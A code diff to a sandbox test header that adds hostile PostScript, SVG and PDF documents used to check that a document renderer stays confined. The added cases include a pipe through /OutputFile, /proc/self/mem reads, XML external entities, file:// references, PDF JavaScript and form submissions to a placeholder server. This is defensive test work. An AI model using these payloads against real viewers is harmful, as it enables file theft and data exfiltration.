@@ -15,6 +15,7 @@ struct EscapeDocument {
   const char* name;
   QByteArray text;
   bool stoppedElsewhere = false;  ///< before the confinement is asked
+  bool isWide = false;            ///< is given in UTF-16
 };
 
 /// A program that calls kEscaped when `attack` was carried out without an error.
@@ -110,6 +111,14 @@ inline QList<EscapeDocument> escapePrograms() {
        programThat("(%rom%/../../../..$SECRET) (r) file closefile"), true},
       {"names a resource by a way up",
        programItself("(../../../../../../../..$SECRET) cvn /Encoding findresource pop"), true},
+      {"sends its page through a bar",
+       programThat("<< /OutputFile (|cat > $NEW) >> systemdict /setpagedevice get exec showpage stop")},
+      {"goes through the root of its process", programThat("(/proc/self/root$SECRET) (r) file closefile")},
+      {"reads the memory of its process", programThat("(/proc/self/mem) (r) file closefile")},
+      {"leaves a message in shared memory",
+       programThat("(/dev/shm/norvex-escape) dup (w) file closefile deletefile")},
+      {"adds a file to its document",
+       programThat("[ /_objdef {f} /type /stream /OBJ pdfmark [ {f} ($SECRET) (r) file /PUT pdfmark")},
   };
 }
 
@@ -183,6 +192,31 @@ inline QList<EscapeDocument> escapeDrawings() {
        drawing({},
                "<style>@import url('http://$SERVER/red.css');</style><rect class='r' fill='none' "
                "width='9' height='9'/>")},
+      {"a marker from a file",
+       drawing({},
+               "<path d='M0 4.5h4.5h4.5' style='marker-mid: url(file://$HOME/red.svg#m)' stroke='none'/>")},
+      {"a paint server from a file",
+       drawing({}, "<rect width='9' height='9' fill=\"url('file://$HOME/red.svg#p')\"/>")},
+      {"text by reference",
+       drawing({}, "<text y='9' fill='red' font-size='20'><tref href='file://$SECRET'/></text>")},
+      {"a transformation by instruction",
+       drawing("<?xml-stylesheet type='text/xsl' href='file://$FIFO'?>", {})},
+      {"a model by instruction", drawing("<?xml-model href='file://$FIFO'?>", {})},
+      {"an image that never ends", drawing({}, "<image width='9' height='9' href='file://$FIFO'/>")},
+      {"an image from a server of files",
+       drawing({}, "<image width='9' height='9' href='ftp://$SERVER/red.svg'/>")},
+      {"an image from a server of folders",
+       drawing({}, "<image width='9' height='9' href='smb://$SERVER/red.svg'/>")},
+      {"an entity in characters of two bytes",
+       drawing("<!DOCTYPE svg [<!ENTITY x SYSTEM 'file://$HOME/red.xml'>]>", "&x;"), false, true},
+      {"a font from a server",
+       drawing({},
+               "<style>@font-face { font-family: x; src: url('http://$SERVER/x.ttf') }</style><text y='9' "
+               "font-family='x'>a</text>")},
+      {"a parameter entity of another one",
+       drawing("<!DOCTYPE svg [<!ENTITY % x 'file://$HOME/red.dtd'><!ENTITY % y '<!ENTITY &#37; z SYSTEM "
+               "\"file://$HOME/red.dtd\">'> %y; %z;]>",
+               "&red;")},
   };
 }
 
@@ -251,6 +285,63 @@ inline QList<EscapeDocument> escapePages() {
                                     "endstream endobj\n")},
       {"a program to be launched",
        pageWith({}, "0 0 9 9 re f", {}, "/OpenAction<</S/Launch/F(touch)/Unix<</F(touch $NEW)>>>>")},
+      {"a program in the page",
+       pageWith("/XObject<</X 5 0 R>>", "/X Do 0 0 9 9 re f",
+                "5 0 obj<</Type/XObject/Subtype/PS/Length 39>>stream\n($NEW) (w) file closefile "
+                "($SECRET) run\nendstream endobj\n")},
+      {"a program in a form",
+       pageWith(
+           "/XObject<</X 5 0 R>>", "/X Do 0 0 9 9 re f",
+           "5 0 obj<</Type/XObject/Subtype/Form/Subtype2/PS/BBox[0 0 9 9]/PS 6 0 R/Length 0>>stream\n\n"
+           "endstream endobj\n6 0 obj<</Length 24>>stream\n($NEW) (w) file closefile\nendstream endobj\n")},
+      {"a program in a font",
+       pageWith(
+           "/Font<</F 5 0 R>>", "BT /F 9 Tf (A) Tj ET",
+           "5 0 obj<</Type/Font/Subtype/Type1/BaseFont/X/FirstChar 65/LastChar 65/Widths[900]/FontDescriptor "
+           "6 0 R>>endobj\n6 0 obj<</Type/FontDescriptor/FontName/X/Flags 4/FontFile 7 0 R>>endobj\n"
+           "7 0 obj<</Length 90/Length1 90/Length2 0/Length3 0>>stream\n%!PS-AdobeFont-1.0: X\n"
+           "($NEW) (w) file closefile\n($SECRET) run\nendstream endobj\n")},
+      {"a program in a character map",
+       pageWith("/Font<</F 5 0 R>>", text,
+                font("8 0 R", {}) + "8 0 obj<</Type/CMap/CMapName/X/Length 60>>stream\n"
+                                    "($NEW) (w) file closefile ($FIFO) (r) file closefile\n"
+                                    "endstream endobj\n")},
+      {"a collection of characters by a way up",
+       pageWith(
+           "/Font<</F 5 0 R>>", text,
+           "5 0 obj<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/X/DescendantFonts[6 0 R]>>endobj\n6 0 "
+           "obj<</Type/Font/Subtype/CIDFontType0/BaseFont/X/CIDSystemInfo<</Registry(..)/Ordering(/../../"
+           "../../../../..$FIFO)/Supplement 1>>/FontDescriptor 7 0 R>>endobj\n"
+           "7 0 obj<</Type/FontDescriptor/FontName/X/Flags 4>>endobj\n")},
+      {"a film in another file",
+       pageWith({}, "0 0 9 9 re f", {},
+                "/Names<</Renditions<</Names[(x)<</Type/Rendition/S/MR/C<</S/MCD/D($FIFO)>>>>]>>>>")},
+      {"a script",
+       pageWith(
+           {}, "0 0 9 9 re f", {},
+           "/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://$SERVER/'\\);this.saveAs\\('$NEW'\\))>>")},
+      {"a form that is sent at once",
+       pageWith(
+           {}, "0 0 9 9 re f", {},
+           "/OpenAction<</S/SubmitForm/F<</FS/URL/F(http://$SERVER/)>>/Flags 4>>/AcroForm<</Fields[]>>")},
+      {"a form of another kind",
+       pageWith(
+           {}, "0 0 9 9 re f",
+           "5 0 obj<</Length 66>>stream\n<xdp xmlns='http://ns.adobe.com/xdp/'><x href='http://$SERVER/'/>"
+           "</xdp>\nendstream endobj\n",
+           "/AcroForm<</XFA 5 0 R/Fields[]>>")},
+      {"metadata in another file",
+       pageWith({}, "0 0 9 9 re f",
+                "5 0 obj<</Type/Metadata/Subtype/XML/Length 0/F($FIFO)>>stream\n\nendstream endobj\n",
+                "/Metadata 5 0 R")},
+      {"an annotation whose appearance is in another file",
+       "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count "
+       "1>>endobj\n"
+       "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[<</Type/Annot/Subtype/Stamp/Rect[0 0 9 "
+       "9]/AP<</N 4 0 R>>>><</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F($FIFO)/Poster 4 "
+       "0 R>>>><</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</Type/Filespec/F($FIFO)>>>>]>>endobj\n"
+       "4 0 obj<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Length 0/F($FIFO)>>stream\n\nendstream "
+       "endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"},
       {"a file to be gone to", pageWith({}, "0 0 9 9 re f", {}, "/OpenAction<</S/GoToR/F($FIFO)/D[0/Fit]>>")},
   };
 }
